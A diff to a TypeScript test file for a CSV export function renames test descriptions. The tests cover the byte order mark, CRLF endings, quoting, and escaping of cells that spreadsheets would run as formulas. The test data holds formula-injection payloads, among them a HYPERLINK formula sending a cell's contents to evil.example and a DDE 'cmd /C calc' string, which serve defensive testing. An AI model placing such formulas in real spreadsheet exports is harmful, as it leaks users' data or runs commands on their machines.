@@ -3,8 +3,8 @@ import { csvText } from './csv.ts'
 
 const cell = (value: string) => csvText([[value]]).slice(1, -2)
 
-describe('a table as a file', () => {
-  it('says that it is UTF-8, and ends every row as spreadsheets do', () => {
+describe('a table as CSV text', () => {
+  it('begins with a byte order mark and ends every row with CRLF', () => {
     expect(csvText([['时间', 'a'], ['1']])).toBe('\uFEFF时间,a\r\n1\r\n')
   })
 
@@ -19,7 +19,7 @@ describe('a table as a file', () => {
     ['＝1', "'＝1"],
     ['=HYPERLINK("http://evil.example?x="&A1,"Refund")', `"'=HYPERLINK(""http://evil.example?x=""&A1,""Refund"")"`],
     ["-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"],
-  ])('has no cell that a spreadsheet would run: %j', (value, written) => {
+  ])('writes a cell that would run as a formula as text: %j', (value, written) => {
     expect(cell(value)).toBe(written)
   })
 
@@ -27,11 +27,11 @@ describe('a table as a file', () => {
     expect(cell(value)).toBe(value)
   })
 
-  it.each(['-1e5', '--1', '-1.', '+1', '-01'])('takes %s for no number', (value) => {
+  it.each(['-1e5', '--1', '-1.', '+1', '-01'])('does not write %s as a number', (value) => {
     expect(cell(value)).toBe(`'${value}`)
   })
 
-  it('quotes what would break a row', () => {
+  it('quotes cells that would break a row', () => {
     expect(cell('a,b')).toBe('"a,b"')
     expect(cell('say "no"')).toBe('"say ""no"""')
     expect(cell('two\nlines')).toBe('"two\nlines"')
